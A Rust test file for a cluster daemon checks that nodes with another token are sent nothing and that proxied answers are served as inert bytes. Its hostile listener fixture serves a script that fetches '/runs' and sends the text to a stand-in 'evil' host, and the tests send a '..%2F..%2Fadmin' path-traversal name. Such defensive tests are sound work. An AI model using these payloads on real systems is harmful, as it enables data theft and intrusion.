//! Nodes of a cluster: who is a member, and what is sent to one.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};

use crate::support::{get_json, repo, start_daemon, submit};

/// A listener that answers every request with a page whose script would read `/runs`, and
/// keeps each request's head: what a node of another user's would do with what it is sent.
fn hostile_listener() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a listener");
    let port = listener.local_addr().expect("address").port();
    let heard = Arc::new(Mutex::new(Vec::new()));
    let keep = Arc::clone(&heard);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(stream.try_clone().expect("stream"));
            let mut head = String::new();
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
                head.push_str(&line);
            }
            keep.lock().expect("heard").push(head);
            let page =
                "<script>fetch('/runs').then(r => r.text()).then(t => fetch('//evil/'+t))</script>";
            let _ = (&stream).write_all(
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\
                     Connection: close\r\n\r\n{page}",
                    page.len()
                )
                .as_bytes(),
            );
        }
    });
    (port, heard)
}

/// A run by URL whose agent works until told to stop, with every part a node needs.
fn hanging_run(url: &str, dir: &Path) -> Value {
    json!({
        "spec_path": "specs/feature.md",
        "repo_url": url,
        "config": {
            "agent": "command",
            "agent_cmd": format!("cat > /dev/null; while [ ! -e {} ]; do sleep 0.1; done", dir.join("stop").display()),
            "reviewer": false,
            "postmortem": false,
            "run_naming_mode": "spec_slug",
        },
    })
}

/// Issue 23, defect 3: a node started with another token, advertising a listener of its own,
/// was listed alive and claimed runs; node a then sent it client requests for the run's
/// output and files with the cluster's token, a name `..%2F..%2Fadmin` included, and served
/// its `text/html` on a's origin. Now such a node is `unproven` and sent nothing.
#[test]
fn a_node_with_another_token_is_no_member_and_is_sent_nothing() {
    let Some(server) = loop_testkit::postgres::Postgres::start(
        "hardening::nodes::a_node_with_another_token_is_no_member_and_is_sent_nothing",
    ) else {
        return;
    };
    let dir = tempfile::tempdir().expect("temp dir");
    let origin = repo(&dir.path().join("origin"), 1);
    let url = loop_testkit::bare_clone(&origin, &dir.path().join("remote.git"));
    // Node a's own run works on another repository: the per-workspace limit counts the runs of
    // every live node, the hostile one's too.
    let own_url = loop_testkit::bare_clone(&origin, &dir.path().join("own.git"));
    let (port, heard) = hostile_listener();
    let cluster_token = dir
        .path()
        .join("cluster-token")
        .to_string_lossy()
        .into_owned();
    let other_token = dir
        .path()
        .join("other-token")
        .to_string_lossy()
        .into_owned();
    let advertised = format!("http://127.0.0.1:{port}");
    // Node a has a slot free beside its own run: it could take the hostile node's run over,
    // and must not (two tokens would fight over it, each taking it back).
    let start = |name: &str, token: &str, slots: &str, extra: &[&str]| {
        let mut args = vec![
            "--lease-ms",
            "2000",
            "--max-concurrency",
            slots,
            "--node-name",
            name,
        ];
        args.extend_from_slice(extra);
        start_daemon(
            &dir.path().join(name),
            &args,
            &[
                ("LOOPD_STORE", server.url.as_str()),
                ("LOOPD_TOKEN_FILE", token),
            ],
        )
    };
    let hostile = start("hostile", &other_token, "1", &["--advertise", &advertised]);
    let run = submit(&hostile, &hanging_run(&url, dir.path()));
    loop_testkit::until(
        "the hostile node claims its run",
        Duration::from_secs(60),
        || {
            let view = get_json(&hostile, &format!("/runs/{run}"));
            view["run"]["status"] == "RUNNING" && view["run"]["node"].is_string()
        },
    );
    let hostile_id = get_json(&hostile, &format!("/runs/{run}"))["run"]["node"].clone();
    let a = start("a", &cluster_token, "2", &[]);
    let own = submit(&a, &hanging_run(&own_url, dir.path()));
    loop_testkit::until("node a drives its own run", Duration::from_secs(60), || {
        get_json(&a, &format!("/runs/{own}"))["run"]["status"] == "RUNNING"
    });
    assert_eq!(
        get_json(&a, &format!("/runs/{run}"))["run"]["node"],
        hostile_id,
        "the hostile node drives the run"
    );

    // Listed, but no member.
    let nodes = get_json(&a, "/nodes");
    let state = nodes["nodes"]
        .as_array()
        .expect("nodes")
        .iter()
        .find(|node| node["id"] == hostile_id)
        .map(|node| node["state"].clone());
    assert_eq!(state, Some(json!("unproven")), "{nodes}");

    // Its claim stands: nobody takes the run back and forth (it once grew by ten claims a
    // second). The hanging agent appends nothing, so the run's version stays.
    let version = get_json(&a, &format!("/runs/{run}"))["run"]["version"].clone();
    std::thread::sleep(Duration::from_secs(5));
    let after = get_json(&a, &format!("/runs/{run}"));
    assert_eq!(after["run"]["version"], version, "{after}");
    assert_eq!(after["run"]["node"], hostile_id, "{after}");

    // Asked of node a, the run's files and output are not fetched from the hostile node.
    let http = reqwest::blocking::Client::builder()
        .timeout(Duration::from_secs(5))
        .build()
        .expect("client");
    let listed = http
        .get(a.url(&format!("/runs/{run}/artifacts")))
        .send()
        .expect("artifacts");
    assert_eq!(listed.status().as_u16(), 200);
    let kind = listed.headers()["content-type"]
        .to_str()
        .unwrap_or("")
        .to_owned();
    assert!(kind.starts_with("application/json"), "{kind}");
    let escaped = http
        .get(a.url(&format!("/runs/{run}/artifacts/..%2F..%2Fadmin")))
        .send()
        .expect("an escaping name");
    assert_eq!(escaped.status().as_u16(), 400);
    let named = http
        .get(a.url(&format!("/runs/{run}/artifacts/iter-01-impl.log")))
        .send()
        .expect("an artifact");
    assert_ne!(
        named
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok()),
        Some("text/html")
    );
    // The output: a's own answer (it has no file of that step), whatever it is, within 5 s.
    let _ = http.get(a.url(&format!("/runs/{run}/output"))).send();
    let heard = heard.lock().expect("heard").clone();
    assert!(heard.is_empty(), "the hostile listener was sent: {heard:?}");

    std::fs::write(dir.path().join("stop"), "").expect("stop the agents");
}

/// Issue 23, defect 3, for a member: a node that proves the token but whose address answers
/// with a page of its own (a member's listener taken over, or an advertised address that now
/// leads elsewhere). What node a passes on from it is served as node a's own answer: its
/// status and bytes, but never its `text/html` (an octet stream instead), always with a's
/// `Content-Security-Policy` and `nosniff`; and a name that climbs is refused before anything
/// is sent.
#[test]
fn a_member_s_answer_is_served_only_as_inert_bytes() {
    let Some(server) = loop_testkit::postgres::Postgres::start(
        "hardening::nodes::a_member_s_answer_is_served_only_as_inert_bytes",
    ) else {
        return;
    };
    let dir = tempfile::tempdir().expect("temp dir");
    let origin = repo(&dir.path().join("origin"), 1);
    let url = loop_testkit::bare_clone(&origin, &dir.path().join("remote.git"));
    let (port, heard) = hostile_listener();
    let token = dir.path().join("token").to_string_lossy().into_owned();
    let start = |name: &str, extra: &[&str]| {
        let mut args = vec!["--lease-ms", "2000", "--node-name", name];
        args.extend_from_slice(extra);
        start_daemon(
            &dir.path().join(name),
            &args,
            &[
                ("LOOPD_STORE", server.url.as_str()),
                ("LOOPD_TOKEN_FILE", token.as_str()),
            ],
        )
    };
    let advertised = format!("http://127.0.0.1:{port}");
    let b = start("b", &["--advertise", &advertised]);
    let run = submit(&b, &hanging_run(&url, dir.path()));
    loop_testkit::until("node b drives the run", Duration::from_secs(60), || {
        let view = get_json(&b, &format!("/runs/{run}"));
        view["run"]["status"] == "RUNNING" && view["run"]["current_step"].is_object()
    });
    let a = start("a", &[]);
    loop_testkit::until("node a counts b a member", Duration::from_secs(30), || {
        get_json(&a, "/nodes")["nodes"]
            .as_array()
            .is_some_and(|nodes| {
                nodes
                    .iter()
                    .any(|node| node["name"] == "b" && node["state"] == "alive")
            })
    });

    let http = reqwest::blocking::Client::builder()
        .timeout(Duration::from_secs(10))
        .build()
        .expect("client");
    for path in [
        format!("/runs/{run}/artifacts/iter-01-impl.log"),
        format!("/runs/{run}/artifacts"),
        format!("/runs/{run}/output"),
    ] {
        let answer = http.get(a.url(&path)).send().expect("a proxied answer");
        let headers = answer.headers().clone();
        let header = |name: &str| {
            headers
                .get(name)
                .and_then(|value| value.to_str().ok())
                .unwrap_or("")
                .to_owned()
        };
        assert_eq!(answer.status().as_u16(), 200, "{path}");
        assert_eq!(header("content-type"), "application/octet-stream", "{path}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        let policy = header("content-security-policy");
        assert!(
            policy.contains("default-src 'none'") && policy.contains("sandbox"),
            "{path}: {policy}"
        );
        assert!(answer.text().expect("body").contains("<script>"), "{path}");
    }
    let asked = heard.lock().expect("heard").clone();
    assert_eq!(asked.len(), 3, "{asked:?}");
    assert!(
        asked[0].starts_with(&format!(
            "GET /runs/{run}/artifacts/iter-01-impl.log HTTP/1.1"
        )),
        "{asked:?}"
    );

    let escaped = http
        .get(a.url(&format!("/runs/{run}/artifacts/..%2F..%2Fadmin")))
        .send()
        .expect("an escaping name");
    assert_eq!(escaped.status().as_u16(), 400);
    assert_eq!(
        heard.lock().expect("heard").len(),
        3,
        "nothing more was sent"
    );

    std::fs::write(dir.path().join("stop"), "").expect("stop the agent");
}
